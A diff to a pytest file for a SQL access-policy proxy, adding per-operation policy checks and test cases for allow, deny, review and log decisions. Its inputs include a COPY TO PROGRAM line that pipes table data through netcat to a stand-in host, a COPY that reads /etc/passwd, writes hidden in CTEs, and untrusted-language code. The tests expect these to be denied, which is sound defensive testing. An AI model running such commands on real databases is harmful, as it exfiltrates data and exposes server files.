@@ -71,12 +71,31 @@ def compile_yaml(*texts: str) -> PolicySet:
 
 
 @dataclass(frozen=True)
+class Op:
+    command: str
+    table: str | None = None
+    unbounded: bool = False
+    copy: str | None = None
+    language: str | None = None
+
+
+@dataclass(frozen=True)
 class Stmt:
+    """A statement; unless ``ops`` are given, one operation of ``command`` per table."""
+
     command: str
     tables: tuple[str, ...] = ()
     functions: tuple[str, ...] = ()
     has_where: bool = True
     settings: tuple[tuple[str, str | None], ...] = ()
+    ops: tuple[Op, ...] = ()
+
+    @property
+    def operations(self) -> tuple[Op, ...]:
+        if self.ops:
+            return self.ops
+        unbounded = not self.has_where and self.command in ("UPDATE", "DELETE")
+        return tuple(Op(self.command, t, unbounded) for t in self.tables or (None,))
 
 
 ORDERS = compile_yaml(ORDERS_APP).policies
@@ -87,7 +106,8 @@ GUARDRAIL_CASES: list[tuple[str, Stmt, str, str | None]] = [
     ("DELETE without WHERE is denied by no-unbounded-writes",
      Stmt("DELETE", ("public.orders",), has_where=False), "deny", "no-unbounded-writes"),
     ("a DELETE inside WITH without WHERE is denied by no-unbounded-writes",
-     Stmt("SELECT", ("public.orders",), has_where=False), "deny", "no-unbounded-writes"),
+     Stmt("SELECT", ops=(Op("SELECT"), Op("DELETE", "public.orders", unbounded=True))),
+     "deny", "no-unbounded-writes"),
     ("UPDATE with WHERE falls through to defaultAction allow",
      Stmt("UPDATE", ("public.orders",)), "allow", None),
     ("DROP needs review by schema-changes-need-review",
@@ -360,3 +380,91 @@ def test_decisions_on_real_analysis() -> None:
     for sql, expected in cases.items():
         decision = decide(ORDERS, analyze(sql))
         assert (decision.action, decision.rule) == expected, sql
+
+
+OPERATIONS_POLICY = """\
+apiVersion: steward.dev/v1alpha1
+kind: DatabaseAccessPolicy
+metadata: {name: ops, namespace: shop}
+spec:
+  subjects: [{kind: Group, name: data-analysts}]
+  defaultAction: deny
+  guardrails:
+    - {name: no-server-copy, match: {copy: [file, program]}, action: deny}
+    - {name: no-untrusted-code, match: {languages: ["pl*u", c]}, action: deny}
+    - {name: no-dynamic-sql, match: {statements: [DYNAMIC]}, action: deny}
+    - {name: payments-read-only, match: {statements: [INSERT, UPDATE, DELETE], tables: [payments]},
+       action: deny}
+    - {name: unbounded-orders, match: {tables: [orders], withoutWhere: true}, action: review}
+    - {name: reads, match: {statements: [SELECT]}, action: allow}
+    - {name: writes-to-orders, match: {statements: [INSERT, UPDATE, DELETE, MERGE],
+       tables: [orders]}, action: allow}
+    - {name: client-copy, match: {statements: [COPY], copy: [stdio]}, action: allow}
+    - {name: code, match: {statements: [DO, CREATE], languages: [plpgsql, sql]}, action: log}
+  approval:
+    approvers: [{kind: Group, name: dba}]
+"""
+
+OPERATION_CASES: list[tuple[str, str, str, str | None]] = [
+    ("a read is allowed", "SELECT * FROM orders", "allow", "reads"),
+    ("an allowed SELECT does not allow the DELETE in its WITH",
+     "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d", "deny", None),
+    ("an allowed read does not allow an INSERT that reads",
+     "INSERT INTO customers SELECT * FROM orders", "deny", None),
+    ("statements and tables must match one operation: INSERT elsewhere reading payments",
+     "INSERT INTO orders SELECT * FROM payments", "allow", "writes-to-orders"),
+    ("statements and tables in one operation: INSERT into payments",
+     "INSERT INTO payments SELECT * FROM orders", "deny", "payments-read-only"),
+    ("a MERGE's DELETE action that matches every row is an unbounded write",
+     "MERGE INTO orders o USING orders s ON true WHEN MATCHED THEN DELETE", "review",
+     "unbounded-orders"),
+    ("an unbounded write to orders needs review, also through EXPLAIN ANALYZE",
+     "EXPLAIN ANALYZE UPDATE orders SET total = 0 WHERE 1 = 1", "deny", None),
+    ("a bounded write to orders is allowed", "UPDATE orders SET total = 0 WHERE id = 1", "allow",
+     "writes-to-orders"),
+    ("an unbounded write to orders is held for review",
+     "DELETE FROM orders WHERE true", "review", "unbounded-orders"),
+    ("COPY to the client is allowed", "COPY orders TO STDOUT", "allow", "client-copy"),
+    ("COPY to a server program is denied", "COPY orders TO PROGRAM 'nc evil 1'", "deny",
+     "no-server-copy"),
+    ("COPY from a server file is denied", "COPY orders FROM '/etc/passwd'", "deny",
+     "no-server-copy"),
+    ("a DO block in PL/pgSQL is logged, its reads allowed",
+     "DO $$ BEGIN PERFORM count(*) FROM orders; END $$", "log", "code"),
+    ("a DO block in PL/pgSQL that writes payments is denied",
+     "DO $$ BEGIN DELETE FROM payments WHERE id = 1; END $$", "deny", "payments-read-only"),
+    ("a DO block in an untrusted language is denied",
+     "DO LANGUAGE plpython3u $$ plpy.execute('SELECT 1') $$", "deny", "no-untrusted-code"),
+    ("a C function is denied", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'f'",
+     "deny", "no-untrusted-code"),
+    ("query_to_xml is denied as DYNAMIC",
+     "SELECT query_to_xml('SELECT 1', true, false, '')", "deny", "no-dynamic-sql"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("sql", "action", "rule"),
+    [pytest.param(s, a, r, id=name) for name, s, a, r in OPERATION_CASES],
+)
+def test_each_operation_is_judged_and_the_strictest_wins(
+    sql: str, action: str, rule: str | None
+) -> None:
+    from steward_proxy.sql import analyze
+
+    policies = compile_yaml(OPERATIONS_POLICY).policies
+    decision = decide(policies, analyze(sql))
+    assert (decision.action, decision.rule) == (action, rule)
+
+
+def test_a_statement_without_operations_is_one_operation_of_its_command() -> None:
+    @dataclass(frozen=True)
+    class Bare:
+        command: str = "FUNCTION CALL"
+        operations: tuple[Op, ...] = ()
+        tables: tuple[str, ...] = ()
+        functions: tuple[str, ...] = ()
+        settings: tuple[tuple[str, str | None], ...] = ()
+
+    policies = compile_yaml(LOCKED_DOWN).policies
+    assert decide(policies, [Bare()]).action == "deny"
+    assert decide(policies, [Bare(command="SELECT")]).rule == "reads"
